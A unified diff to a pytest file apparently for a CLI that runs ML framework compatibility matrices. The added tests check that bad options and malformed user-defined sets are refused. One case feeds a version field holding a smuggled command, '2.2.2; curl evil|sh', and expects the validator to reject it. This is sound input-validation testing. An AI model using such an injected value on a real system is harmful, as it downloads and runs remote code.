@@ -9,7 +9,8 @@ from pathlib import Path
 
 import pytest
 
-from runner import cli, resources
+from runner import cli, matrix, resources
+from runner.cli import options
 from runner.cli.session import Request, further_rounds, neighbours
 from runner.errors import RunnerError
 from runner.model import Cell, Environment, Job, Plan, ProbeSpec, Sample, Status
@@ -80,6 +81,15 @@ def test_list_shows_the_sets(capsys: pytest.CaptureFixture[str]) -> None:
         (["matrix", "--setting", "mnist.epochs=NaN", "--dry-run"], "epochs is int, such as 3"),
         (["matrix", "--setting", f"mnist.epochs={'[' * 100_000}", "--dry-run"], "epochs is int, such as 3"),
         (["matrix", "--probe", "hello", "--setting", "hello.x=1", "--dry-run"], "hello has no setting 'x'"),
+        (["matrix", "--alpha", "nan", "--dry-run"], "'nan' is no number"),
+        (["matrix", "--floor", "1", "--dry-run"], "--floor"),
+        (["matrix", "--timeout", "inf", "--dry-run"], "'inf' is no number"),
+        (["judge", "-", "--alpha", "2"], "--alpha"),
+        (["matrix", "--device", "cuda", "--dry-run"], "--device goes with --executor current"),
+        (["matrix", "--device", "gpu", "--executor", "current", "--dry-run"], "'gpu' is not one of"),
+        (["list", "--set", ""], "no set ''"),
+        (["list", "--only", "tensorflow-2.18.0_keras-3.8.0_*"], "of the set 'quick'; --set seeds has it"),
+        (["calibrate", "torch-2.2.2_keras-3.11.4_py3.11_cpu"], "did you mean 'torch-2.2.2_keras-3.11.3_py3.11_cpu'"),
         (["report", "/nowhere"], "no such file or folder"),
         (["lock", "--set", "sede", "--check"], "did you mean 'seeds'"),
     ],
@@ -119,6 +129,74 @@ def test_a_malformed_matrix_names_file_and_line(
     line = _fails(capsys, "list")
     assert "matrix.toml" in line
     assert "line 2" in line
+
+
+MINE = """
+[sets.mine]
+description = "a user's own"
+%s
+[[sets.mine.product]]
+framework = ["torch"]
+version = ["%s"]
+keras = ["3.11.3"]
+device = ["cpu"]
+%s
+"""
+
+
+@pytest.mark.parametrize(
+    ("head", "version", "tail", "message"),
+    [
+        ("", "2.2.2", "", "the set 'mine' names no probe"),
+        ("", "2.2.2; curl evil|sh", "", "matrix.toml: sets.mine: version '2.2.2; curl evil|sh' is no release number"),
+        ("", "2.2.2", "[sets.mine.probes.mnist]\nepoch = 3", "sets.mine.probes: mnist has no setting 'epoch' (did you"),
+        ("", "2.2.2", "[sets.mine.probes.mnist]\nepochs = 'x'", "sets.mine.probes: epochs is int, such as 3"),
+        ("executor = 'dokcer'", "2.2.2", "[sets.mine.probes.mnist]", "no executor 'dokcer' (did you mean 'docker'"),
+        (
+            "platform = 'linux-x86-64'",
+            "2.2.2",
+            "",
+            "sets.mine: no platform 'linux-x86-64' (did you mean 'linux-x86_64'",
+        ),
+    ],
+)
+def test_a_set_of_ones_own_that_does_not_fit_is_refused_before_anything_runs(
+    capsys: pytest.CaptureFixture[str],
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    head: str,
+    version: str,
+    tail: str,
+    message: str,
+) -> None:
+    shipped = resources.matrix_dir()
+    for file in shipped.glob("*.toml"):
+        (tmp_path / file.name).write_bytes(file.read_bytes())
+    mine = (shipped / "matrix.toml").read_text() + MINE % (head, version, tail)
+    (tmp_path / "matrix.toml").write_text(mine)
+    monkeypatch.setattr(resources, "matrix_dir", lambda: tmp_path)
+    assert message in _fails(capsys, "matrix", "--set", "mine", "--dry-run")
+
+
+def test_a_set_without_cells_is_refused(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "compat.toml").write_bytes((resources.matrix_dir() / "compat.toml").read_bytes())
+    (tmp_path / "matrix.toml").write_text("schema = 1\ndefault = 'mine'\n[sets.mine]\ndescription = 'd'\n")
+    monkeypatch.setattr(resources, "matrix_dir", lambda: tmp_path)
+    assert "sets.mine has no cells" in _fails(capsys, "list")
+
+
+@pytest.mark.parametrize("name", sorted(matrix.load().sets))
+def test_every_shipped_set_has_settings_that_its_probes_have(name: str) -> None:
+    assert options.probe_specs(options.choose(name, ()), (), ())
+
+
+def test_the_commands_of_images_are_told_in_whole_sentences(capsys: pytest.CaptureFixture[str]) -> None:
+    assert cli.run(["images", "--help"]) == 0
+    commands = capsys.readouterr().out.partition("Commands:")[2]
+    assert "sbom" in commands
+    assert "..." not in commands
 
 
 def test_a_reader_that_goes_away_is_no_error(
